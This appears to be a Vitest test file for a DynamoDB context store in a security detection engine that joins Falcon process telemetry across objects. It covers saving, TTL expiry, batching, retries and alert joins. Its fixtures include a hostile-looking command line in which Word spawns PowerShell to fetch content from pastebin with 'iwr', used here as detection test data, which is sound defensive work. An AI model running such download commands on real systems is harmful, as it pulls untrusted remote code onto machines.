import { createReadStream, readFileSync } from 'node:fs';
import { resolve } from 'node:path';
import { BatchGetItemCommand, BatchWriteItemCommand } from '@aws-sdk/client-dynamodb';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { formatCsv, sortGroups } from '../../lib/alert/index.ts';
import {
  type ContextStore,
  type ScanLimits,
  type StoredContext,
  scanObject,
} from '../../lib/engine/index.ts';
import { defaultRule } from '../../lib/rule/index.ts';
import { SOURCE_PLUGINS } from '../../lib/sources/index.ts';
import {
  createDynamoContextStore,
  type DynamoSend,
  StateRetryExhaustedError,
} from '../../lib/state/index.ts';
import { MAX_STORED_CMDLINE_CHARS } from '../../lib/state/limits.ts';
import { FIXTURE_DATASETS } from '../helpers/datasets.ts';
import { type Dynalite, startDynalite } from './helpers.ts';

const TTL_SECONDS = 3_600;
const NOW = Date.parse('2024-03-01T10:00:00.000Z');

let db: Dynalite;

beforeAll(async () => {
  db = await startDynalite();
});

afterAll(async () => {
  await db.stop();
});

const storeOn = async (client: DynamoSend = db.client, now = () => NOW) =>
  createDynamoContextStore({
    client,
    tableName: await db.newTable(),
    ttlSeconds: TTL_SECONDS,
    now,
  });

const context = (
  processes: StoredContext['processes'] = new Map(),
  hosts: StoredContext['hosts'] = new Map(),
): StoredContext => ({ processes, hosts });

/** Lets only the first key or item of each batch request through; the rest come back unprocessed. */
function partialBatches(): { client: DynamoSend; calls: number[] } {
  const calls: number[] = [];
  const send = async (command: unknown) => {
    if (command instanceof BatchGetItemCommand) {
      const [table, request] = Object.entries(command.input.RequestItems ?? {})[0]!;
      const keys = request.Keys ?? [];
      calls.push(keys.length);
      const out = await db.client.send(
        new BatchGetItemCommand({
          RequestItems: { [table]: { ...request, Keys: keys.slice(0, 1) } },
        }),
      );
      if (keys.length > 1) out.UnprocessedKeys = { [table]: { ...request, Keys: keys.slice(1) } };
      return out;
    }
    if (command instanceof BatchWriteItemCommand) {
      const [table, requests] = Object.entries(command.input.RequestItems ?? {})[0]!;
      calls.push(requests.length);
      const out = await db.client.send(
        new BatchWriteItemCommand({ RequestItems: { [table]: requests.slice(0, 1) } }),
      );
      if (requests.length > 1) out.UnprocessedItems = { [table]: requests.slice(1) };
      return out;
    }
    throw new Error(`unexpected command ${String(command)}`);
  };
  return { client: { send: send as DynamoSend['send'] }, calls };
}

describe('Context store: save and lookup', () => {
  it('returns the processes and host names it saved, and nothing for unknown keys', async () => {
    // Prepare
    const store = await storeOn();
    const saved = context(
      new Map([
        [
          '{a1b2c3d4-0000-1111-2222-333344445555}',
          {
            image: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
            originalFileName: 'powershell.exe',
            parentImage: 'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE',
            cmdLine: 'powershell -nop -c iwr https://pastebin.com/raw/abc',
            user: 'CORP\\jdoe',
            urlHosts: ['pastebin.com'],
          },
        ],
        ['3a1ffb9e518ceb7760a187aef5f7a457:22013773145188', { image: 'powershell.exe' }],
      ]),
      new Map([['3a1ffb9e518ceb7760a187aef5f7a457', 'WORKSTATION5']]),
    );

    // Act
    await store.save(saved);
    const found = await store.lookup({
      processes: [...saved.processes.keys(), 'unknown:1'],
      hosts: [...saved.hosts.keys(), 'unknown-aid'],
    });

    // Assess
    expect(found).toEqual(saved);
  });

  it('keeps the first MAX_STORED_CMDLINE_CHARS characters of a long command line', async () => {
    // Prepare
    const store = await storeOn();
    const cmdLine = `powershell -enc ${'A'.repeat(3 * MAX_STORED_CMDLINE_CHARS)}`;

    // Act
    await store.save(context(new Map([['k:1', { image: 'powershell.exe', cmdLine }]])));
    const found = await store.lookup({ processes: ['k:1'], hosts: [] });

    // Assess
    expect(found.processes.get('k:1')?.cmdLine).toBe(cmdLine.slice(0, MAX_STORED_CMDLINE_CHARS));
  });

  it('forgets context whose TTL has passed even before DynamoDB deletes it', async () => {
    // Prepare
    let now = NOW;
    const store = await storeOn(db.client, () => now);
    await store.save(context(new Map([['k:1', { image: 'cmd.exe' }]]), new Map([['aid', 'HOST']])));

    // Act
    now = NOW + (TTL_SECONDS - 1) * 1000;
    const before = await store.lookup({ processes: ['k:1'], hosts: ['aid'] });
    now = NOW + TTL_SECONDS * 1000;
    const after = await store.lookup({ processes: ['k:1'], hosts: ['aid'] });

    // Assess
    expect([before.processes.size, before.hosts.size]).toEqual([1, 1]);
    expect([after.processes.size, after.hosts.size]).toEqual([0, 0]);
  });

  it('saves and looks up more keys than one batch request takes, duplicates included', async () => {
    // Prepare: 260 processes and 40 hosts (BatchWriteItem takes 25 items, BatchGetItem 100 keys).
    const store = await storeOn();
    const processes = new Map(
      Array.from({ length: 260 }, (_, i) => [`aid:${i}`, { image: `p${i}.exe` }] as const),
    );
    const hosts = new Map(Array.from({ length: 40 }, (_, i) => [`aid${i}`, `HOST-${i}`] as const));

    // Act
    await store.save(context(processes, hosts));
    const found = await store.lookup({
      // Duplicates within one request: BatchGetItem rejects those unless de-duplicated.
      processes: ['aid:0', 'aid:1', ...processes.keys()],
      hosts: ['aid0', ...hosts.keys()],
    });

    // Assess
    expect(found).toEqual(context(processes, hosts));
  });

  it('retries unprocessed keys and items until every one is done', async () => {
    // Prepare
    const { client, calls } = partialBatches();
    const store = await storeOn(client);
    const processes = new Map([
      ['k:1', { image: 'a.exe' }],
      ['k:2', { image: 'b.exe' }],
      ['k:3', { image: 'c.exe' }],
    ]);

    // Act
    await store.save(context(processes));
    const found = await store.lookup({ processes: ['k:1', 'k:2', 'k:3'], hosts: [] });

    // Assess
    expect(found.processes).toEqual(processes);
    expect(calls).toEqual([3, 2, 1, 3, 2, 1]);
  });

  it('fails with StateRetryExhaustedError when DynamoDB never processes a batch', async () => {
    // Prepare: every request comes back wholly unprocessed (sustained throttling).
    const throttled: DynamoSend = {
      send: (async (command: { input: { RequestItems: Record<string, unknown> } }) => ({
        UnprocessedKeys: command.input.RequestItems,
        Responses: {},
      })) as DynamoSend['send'],
    };
    const store = createDynamoContextStore({ client: throttled, tableName: 'throttled' });

    // Act
    const result = store.lookup({ processes: ['k:1'], hosts: [] });

    // Assess
    await expect(result).rejects.toBeInstanceOf(StateRetryExhaustedError);
  });

  it('does not rewrite unchanged context within half its TTL, and rewrites changed context', async () => {
    // Prepare: count the items each save writes.
    const written: number[] = [];
    let now = NOW;
    const counting: DynamoSend = {
      send: (async (command: { input: { RequestItems?: Record<string, unknown[]> } }) => {
        const items = Object.values(command.input.RequestItems ?? {})[0];
        if (Array.isArray(items)) written.push(items.length);
        return db.client.send(command as never);
      }) as DynamoSend['send'],
    };
    const store = await storeOn(counting, () => now);
    const hosts = new Map([['aid', 'HOST']]);

    // Act
    await store.save(context(new Map([['k:1', { image: 'cmd.exe' }]]), hosts));
    await store.save(context(new Map([['k:1', { image: 'cmd.exe' }]]), hosts));
    await store.save(context(new Map([['k:1', { image: 'cmd.exe', user: 'jdoe' }]]), hosts));
    now = NOW + (TTL_SECONDS / 2 + 1) * 1000;
    await store.save(context(new Map(), hosts));

    // Assess: 2 items, nothing, the changed process, the host once half its TTL was gone.
    expect(written).toEqual([2, 1, 1]);
  });
});

describe('Context store: cross-object joins with the real engine', () => {
  const rule = defaultRule();
  const fdrPath = resolve(FIXTURE_DATASETS, 'falcon/otrf-psh-mshta.fdr.ndjson');
  const fdrLines = readFileSync(fdrPath, 'utf8').trim().split('\n');
  // The object that held what the FDR recording lacks: powershell's ProcessRollup2 (it started
  // before the recording; written in the recording's conventions) and the host's aidmaster record.
  const earlierObject = [
    JSON.stringify({
      event_simpleName: 'ProcessRollup2',
      name: 'ProcessRollup2V19',
      TargetProcessId: '22013773145188',
      ParentProcessId: '9530418101832',
      ImageFileName:
        '\\Device\\HarddiskVolume2\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
      CommandLine: '"C:\\windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"',
      ParentBaseFileName: 'explorer.exe',
      UserName: 'wardog',
      ProcessStartTime: '1603353101.120',
      aid: '3a1ffb9e518ceb7760a187aef5f7a457',
      cid: '5424626b932a2ff9d191f0982447a979',
      event_platform: 'Win',
      timestamp: '1603353101520',
      id: '5d2b0a8f3c9e4a17',
    }),
    fdrLines.find((l) => l.includes('"ComputerName"')) as string,
  ].join('\n');

  async function scan(
    origin: string,
    input: AsyncIterable<Uint8Array>,
    store: ContextStore,
    limits: Partial<ScanLimits> = {},
  ) {
    const result = await scanObject(input, {
      origin,
      sources: SOURCE_PLUGINS,
      rule,
      contextStore: store,
      limits,
    });
    return formatCsv(sortGroups(result.groups));
  }
  const bytes = async function* (text: string) {
    yield Buffer.from(text);
  };

  it('yields the powershell alert from otrf-psh-mshta.fdr.ndjson once an earlier object held its process', async () => {
    // Prepare
    const store = await storeOn(db.client, Date.now);
    const expected = readFileSync(
      resolve(FIXTURE_DATASETS, 'expected-v2/otrf-psh-mshta.logscale.json.csv'),
      'utf8',
    );

    // Act
    const first = await scan('s3://fdr/earlier.ndjson', bytes(earlierObject), store);
    const second = await scan(
      's3://fdr/otrf-psh-mshta.fdr.ndjson',
      createReadStream(fdrPath),
      store,
    );

    // Assess
    expect(first).toBe('host,user,process,domain,count,first_seen,last_seen\n');
    expect(second).toBe(expected);
  });

  it("applies the earlier object's context to candidates flushed early, before the object ends", async () => {
    // Prepare: at most 2 candidates held, so the recording's are resolved in several flushes
    const store = await storeOn(db.client, Date.now);
    const expected = readFileSync(
      resolve(FIXTURE_DATASETS, 'expected-v2/otrf-psh-mshta.logscale.json.csv'),
      'utf8',
    );
    await scan('s3://fdr/earlier.ndjson', bytes(earlierObject), store);
    const saved: string[] = [];
    const recording: ContextStore = {
      lookup: (request) => store.lookup(request),
      save: async (learned) => {
        saved.push(...learned.processes.keys());
        await store.save(learned);
      },
    };

    // Act
    const csv = await scan(
      's3://fdr/otrf-psh-mshta.fdr.ndjson',
      createReadStream(fdrPath, { highWaterMark: 4096 }),
      recording,
      { maxCandidates: 2 },
    );

    // Assess: and powershell's context, which this object only read back, is not saved as learned
    expect(csv).toBe(expected);
    expect(saved.length).toBeGreaterThan(0);
    expect(saved.filter((key) => key.endsWith(':22013773145188'))).toEqual([]);
  });

  it('yields nothing from otrf-psh-mshta.fdr.ndjson without that earlier object', async () => {
    // Prepare
    const store = await storeOn(db.client, Date.now);
    const expected = readFileSync(
      resolve(FIXTURE_DATASETS, 'expected-v2/otrf-psh-mshta.fdr.ndjson.csv'),
      'utf8',
    );

    // Act
    const csv = await scan('s3://fdr/otrf-psh-mshta.fdr.ndjson', createReadStream(fdrPath), store);

    // Assess
    expect(csv).toBe(expected);
  });
});
